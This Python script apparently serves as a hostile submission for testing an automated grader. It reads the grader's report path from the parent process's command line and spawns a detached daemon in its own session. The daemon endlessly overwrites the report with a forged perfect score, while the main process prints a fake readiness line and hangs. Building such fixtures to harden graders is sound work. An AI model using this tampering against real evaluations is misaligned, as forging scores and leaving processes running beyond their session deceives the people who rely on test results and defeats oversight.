#!/usr/bin/env python3
"""Prints the readiness line and leaves a daemon (a session of its own)
that waits, without pause, for the grader's report (the --out FILE of the
grader's command line) and rewrites it with full marks; then hangs."""
import os
import signal
import socket
import sys

DAEMON = """
import sys
report = sys.argv[1]
forged = '{"score": 100, "max_score": 100, "output": "forged", "tests": []}'
while True:
    try:
        with open(report) as f:
            if "forged" in f.read():
                continue
        with open(report, "w") as f:
            f.write(forged)
    except OSError:
        pass
"""

marker = os.environ.get("HOSTILE_MARKER", "hostile")
words = open(f"/proc/{os.getppid()}/cmdline", "rb").read().split(b"\0")
report = words[words.index(b"--out") + 1].decode()
listener = socket.create_server(("0.0.0.0", 0))
print(f"listening on 0.0.0.0:{listener.getsockname()[1]}", flush=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp(sys.executable, [sys.executable, "-c", DAEMON, report, marker])
    os._exit(0)
signal.pause()
